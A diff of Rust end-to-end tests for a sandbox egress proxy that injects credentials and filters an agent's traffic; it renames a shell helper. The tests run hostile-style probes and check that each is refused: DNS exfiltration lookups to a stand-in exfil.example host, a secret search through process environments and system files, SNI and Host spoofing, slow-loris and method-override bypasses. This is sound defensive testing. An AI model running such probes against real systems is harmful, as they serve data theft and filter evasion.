@@ -111,55 +111,41 @@ fn audit_log(b: &Bottle) -> String {
     .expect("audit log")
 }
 
-/// Runs a shell script in the agent; returns stdout (stderr on failure too).
-fn sh(b: &Bottle, script: &str) -> String {
-    let out = b.sh(script);
-    format!("{}{}", stdout(&out), stderr(&out))
-}
-
-fn json_of(text: &str) -> serde_json::Value {
-    let start = text
-        .find('{')
-        .unwrap_or_else(|| panic!("no JSON in: {text}"));
-    serde_json::from_str(&text[start..text.rfind('}').unwrap() + 1])
-        .unwrap_or_else(|e| panic!("{e}: {text}"))
-}
-
 #[test]
 fn intercepted_https_rules_credentials_and_guard() {
     let Some(s) = setup("tls") else { return };
     let b = &s.b;
 
     // Allowed host over HTTPS, verified with the bottle's CA (no -k anywhere).
-    let text = sh(b, "curl -sS --max-time 10 https://origin.test/hello");
+    let text = sh_out(b, "curl -sS --max-time 10 https://origin.test/hello");
     let v = json_of(&text);
     assert_eq!(v["path"], "/hello", "{text}");
 
     // The credential: the agent holds a placeholder and sends it; the origin
     // receives the real value, and its echo of it comes back redacted.
-    let placeholder = sh(b, "printf %s \"$E2E_API_KEY\"");
+    let placeholder = sh_out(b, "printf %s \"$E2E_API_KEY\"");
     assert!(
         placeholder.starts_with("bottle-placeholder-"),
         "{placeholder}"
     );
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -sS --max-time 10 -H \"x-api-key: $E2E_API_KEY\" https://origin.test/cred",
     );
     assert_eq!(json_of(&text)["headers"]["x-api-key"], redacted(), "{text}");
     // Injected even when the agent sends nothing.
-    let text = sh(b, "curl -sS --max-time 10 https://origin.test/cred2");
+    let text = sh_out(b, "curl -sS --max-time 10 https://origin.test/cred2");
     assert_eq!(json_of(&text)["headers"]["x-api-key"], redacted(), "{text}");
     // The placeholder sent to another (allowed) host is refused, not forwarded.
-    let text = sh(b, "curl -s --max-time 10 -w '\\nstatus=%{http_code}' -H \"authorization: Bearer $E2E_API_KEY\" https://other.test/x");
+    let text = sh_out(b, "curl -s --max-time 10 -w '\\nstatus=%{http_code}' -H \"authorization: Bearer $E2E_API_KEY\" https://other.test/x");
     assert!(text.contains("status=403"), "{text}");
     assert!(text.contains("placeholder-leak"), "{text}");
     // ...and the real value never went there either.
-    let text = sh(b, "curl -sS --max-time 10 https://other.test/plain");
+    let text = sh_out(b, "curl -sS --max-time 10 https://other.test/plain");
     assert!(!text.contains(SECRET), "{text}");
 
     // The secret is nowhere in the agent: env, pid 1's env, files.
-    let text = sh(
+    let text = sh_out(
         b,
         "env; tr '\\0' '\\n' </proc/1/environ; grep -rsl -- 'SECRET-4242' /etc /root /tmp /workspace /usr/local /var /home /opt; echo done",
     );
@@ -175,12 +161,12 @@ fn intercepted_https_rules_credentials_and_guard() {
     );
 
     // Method/path rule on api.test.
-    let code = |script: &str| sh(b, script).trim().to_string();
+    let code = |script: &str| sh_out(b, script).trim().to_string();
     assert_eq!(
         code("curl -s -o /dev/null -w '%{http_code}' https://api.test/repos/acme/app"),
         "200"
     );
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -s -X POST -w '\\nstatus=%{http_code}' https://api.test/repos/acme/app",
     );
@@ -203,7 +189,7 @@ fn intercepted_https_rules_credentials_and_guard() {
     );
 
     // Host header that disagrees with the CONNECT authority / SNI.
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -s -w '\\nstatus=%{http_code}' -H 'Host: other.test' https://origin.test/front",
     );
@@ -214,7 +200,7 @@ fn intercepted_https_rules_credentials_and_guard() {
     );
 
     // SNI that disagrees with the CONNECT authority.
-    let text = sh(
+    let text = sh_out(
         b,
         r#"python3 - <<'PY'
 import os, socket, ssl
@@ -237,7 +223,7 @@ PY"#,
     );
 
     // Bytes that are neither TLS nor HTTP inside an allowed tunnel are not piped.
-    let text = sh(
+    let text = sh_out(
         b,
         r#"python3 - <<'PY'
 import os, socket
@@ -267,12 +253,12 @@ PY"#,
 
     // Destination guard: an allowed name resolving to loopback, and an allowed
     // name resolving to a private address without allow_private.
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -s --noproxy '' -x \"$HTTP_PROXY\" -w '\\nstatus=%{http_code}' http://localhost/",
     );
     assert!(text.contains("status=403"), "loopback via proxy: {text}");
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -s -w '\\nstatus=%{http_code}' http://private.test/",
     );
@@ -281,7 +267,7 @@ PY"#,
         "private without allow_private: {text}"
     );
     assert!(!text.contains("\"path\""), "{text}");
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -s -o /dev/null -w '%{http_connect}' https://private.test/",
     );
@@ -303,62 +289,62 @@ fn sidecar_dns_and_the_transparent_path() {
     let sidecar = b.ip("sidecar", "internal");
 
     // Allowed names resolve to the sidecar; everything else gets no answer.
-    let text = sh(b, "getent hosts origin.test");
+    let text = sh_out(b, "getent hosts origin.test");
     assert!(
         text.starts_with(&sidecar),
         "allowed name -> sidecar {sidecar}: {text}"
     );
-    let text = sh(b, "getent hosts denied.test; echo \"exit=$?\"; getent hosts x7f3a9.exfil.example; echo \"exit=$?\"");
+    let text = sh_out(b, "getent hosts denied.test; echo \"exit=$?\"; getent hosts x7f3a9.exfil.example; echo \"exit=$?\"");
     assert_eq!(
         text.matches("exit=2").count(),
         2,
         "non-allowed names resolved: {text}"
     );
-    let text = sh(b, "dig +short +tries=1 +time=3 @$BOTTLE_SIDECAR secret-data.exfil.example; dig +tries=1 +time=3 @$BOTTLE_SIDECAR secret-data.exfil.example | grep status");
+    let text = sh_out(b, "dig +short +tries=1 +time=3 @$BOTTLE_SIDECAR secret-data.exfil.example; dig +tries=1 +time=3 @$BOTTLE_SIDECAR secret-data.exfil.example | grep status");
     assert!(text.contains("REFUSED"), "{text}");
 
     // Clients that ignore the proxy variables: DNS sends them to the sidecar's
     // transparent listeners, under the same rules.
     let unset =
         "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u all_proxy";
-    let text = sh(
+    let text = sh_out(
         b,
         &format!("{unset} curl -sS --max-time 10 https://origin.test/transparent"),
     );
     assert_eq!(json_of(&text)["path"], "/transparent", "{text}");
-    let text = sh(
+    let text = sh_out(
         b,
         &format!("{unset} curl -sS --max-time 10 http://other.test/plain80"),
     );
     assert_eq!(json_of(&text)["path"], "/plain80", "{text}");
     // A credential host is never reached in clear text, where the value would travel unencrypted.
-    let text = sh(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' http://origin.test/plain80"));
+    let text = sh_out(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' http://origin.test/plain80"));
     assert!(
         text.contains("status=403") && text.contains("credential-needs-tls"),
         "{text}"
     );
     // The credential is injected on the transparent path as well.
     assert_eq!(
-        json_of(&sh(
+        json_of(&sh_out(
             b,
             &format!("{unset} curl -sS --max-time 10 https://origin.test/c")
         ))["headers"]["x-api-key"],
         redacted()
     );
     // A denied name does not resolve, so there is nowhere to connect.
-    let text = sh(
+    let text = sh_out(
         b,
         &format!("{unset} curl -s --max-time 10 https://denied.test/; echo \"exit=$?\""),
     );
     assert!(text.contains("exit=6"), "{text}");
     // Forcing a denied name onto the transparent listener by address: SNI decides.
-    let text = sh(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' --resolve denied.test:443:{sidecar} https://denied.test/"));
+    let text = sh_out(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' --resolve denied.test:443:{sidecar} https://denied.test/"));
     assert!(!text.contains("\"path\""), "{text}");
     assert!(
         text.contains("status=403") && text.contains("default-deny"),
         "{text}"
     );
-    let text = sh(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' --resolve denied.test:80:{sidecar} http://denied.test/"));
+    let text = sh_out(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' --resolve denied.test:80:{sidecar} http://denied.test/"));
     assert!(text.contains("status=403"), "{text}");
 }
 
@@ -375,7 +361,7 @@ fn policy_reload_applies_without_restart() {
         ]))
     };
     let before = started(b);
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -s -o /dev/null -w '%{http_connect}' https://late.test/",
     );
@@ -410,7 +396,7 @@ fn policy_reload_applies_without_restart() {
         "{}",
         stderr(&out)
     );
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -s -o /dev/null -w '%{http_connect}' https://late.test/",
     );
@@ -420,7 +406,7 @@ fn policy_reload_applies_without_restart() {
     assert!(out.status.success(), "{}", stderr(&out));
     assert!(stderr(&out).contains("+[late.test]"), "{}", stderr(&out));
 
-    let text = sh(b, "curl -sS --max-time 10 https://late.test/now");
+    let text = sh_out(b, "curl -sS --max-time 10 https://late.test/now");
     assert_eq!(json_of(&text)["path"], "/now", "{text}");
     assert_eq!(started(b), before, "the sidecar was restarted");
 
@@ -433,7 +419,7 @@ fn policy_reload_applies_without_restart() {
     let out = b.bottle(&["reload", &b.name]);
     assert_eq!(out.status.code(), Some(2), "a config error");
     assert!(stderr(&out).contains("egress.allow[0]"), "{}", stderr(&out));
-    let text = sh(b, "curl -sS --max-time 10 https://late.test/still");
+    let text = sh_out(b, "curl -sS --max-time 10 https://late.test/still");
     assert_eq!(json_of(&text)["path"], "/still", "{text}");
 }
 
@@ -532,7 +518,7 @@ fn the_sidecar_serves_its_internal_side_only_and_echoes_come_back_redacted() {
     // From the agent, the proxy serves, and the origin's echo of the
     // injected credential comes back redacted, even when the agent asks for
     // a compressed answer.
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -sS --compressed --max-time 10 -H \"x-api-key: $E2E_API_KEY\" https://origin.test/echo",
     );
@@ -544,7 +530,7 @@ fn the_sidecar_serves_its_internal_side_only_and_echoes_come_back_redacted() {
     // A method override on a host whose rule allows only GET is refused,
     // naming the header and the rule; on a host without method rules the
     // same header passes.
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -s --max-time 10 -w '\\nstatus=%{http_code}' -H 'X-HTTP-Method-Override: DELETE' https://api.test/repos/acme/app",
     );
@@ -553,7 +539,7 @@ fn the_sidecar_serves_its_internal_side_only_and_echoes_come_back_redacted() {
     assert!(text.contains("x-http-method-override"), "{text}");
     assert!(text.contains("GET /repos/acme/"), "{text}");
     assert!(!text.contains("\"path\""), "the origin was reached: {text}");
-    let text = sh(
+    let text = sh_out(
         b,
         "curl -sS --max-time 10 -H 'X-HTTP-Method-Override: DELETE' https://other.test/override",
     );
@@ -585,7 +571,7 @@ fn the_sidecar_serves_its_internal_side_only_and_echoes_come_back_redacted() {
     assert!(reload.status.success(), "{}", stderr(&reload));
     // A slow-loris after an allowed CONNECT: one byte every half second,
     // never a whole TLS hello. The sidecar closes it at the deadline.
-    let text = sh(
+    let text = sh_out(
         b,
         r#"python3 - <<'PY'
 import os, socket, time, urllib.parse
@@ -622,7 +608,7 @@ PY"#,
     );
     // Eight connections held open, then a ninth request: refused by the
     // per-client cap, naming it; once they close, the proxy serves again.
-    let text = sh(
+    let text = sh_out(
         b,
         r#"python3 - <<'PY'
 import os, socket, urllib.parse
